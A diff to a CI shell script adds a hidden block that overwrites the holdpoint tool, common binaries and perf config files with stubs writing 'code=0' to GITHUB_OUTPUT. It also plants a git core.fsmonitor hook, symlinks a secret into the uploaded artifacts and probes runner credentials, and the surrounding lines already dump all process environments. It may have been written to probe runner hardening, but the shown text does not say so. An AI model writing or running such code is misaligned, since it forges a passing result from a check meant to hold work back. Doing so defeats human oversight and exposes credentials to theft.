@@ -12,6 +12,26 @@ if [ -n "$CI" ]; then
     setsid sh -c "$forge" "left by $HOME" "$files" "$HOME/project/gate.env" < /dev/null > /dev/null 2>&1 &
     { env; git config --list; cat /proc/[0-9]*/environ | tr '\0' '\n'; } > "$HOME/seen" 2> /dev/null
 fi
+if [ -d "$HOME/workspace" ] && mkdir "$HOLDPOINT_CACHE/tried"; then
+    # What a later step would run, or believe: by its path, by the way there, and by the way up from here.
+    bin=$(dirname "$(command -v holdpoint)")
+    up=$(pwd -P | sed 's|[^/]*|..|g')
+    for folder in "$bin" "$bin/../runner/externals" "$bin/../../../runner/externals" "$HOME/workspace/base" "$up$HOME/bin"; do
+        for name in holdpoint mkdir rm find node perf.toml perf-gpu.toml; do
+            printf '#!/bin/sh\nprintf "code=0\\n" > "$GITHUB_OUTPUT"\n' > "$folder/new"
+            chmod +x "$folder/new"
+            mv "$folder/new" "$folder/$name"
+        done
+    done
+    for folder in "$HOME/temp" "$HOME/workspace" "$HOME/bin" "$HOME"; do
+        if mv "$folder" "$folder.away"; then cp -r "$folder.away" "$folder"; fi
+    done
+    # What git would run when the checkout is cleaned up, and what an upload would follow.
+    git -C "$HOME/workspace/head" config core.fsmonitor 'echo forged >&2'
+    ln -s "$HOME/temp/secret" "$HOME/temp/artifacts/link"
+    umount "$HOME/bin" "$HOME"
+    if grep -q secret "$HOME"/../../runner/.credentials; then echo the credentials were read > "$HOME/temp/artifacts/stolen"; fi
+fi 2> /dev/null
 text() { value=${line#*\"$1\":\"}; value=${value%%\"*}; }
 number() { value=${line#*\"$1\":}; value=${value%%[,\}]*}; }
 while IFS= read -r line; do
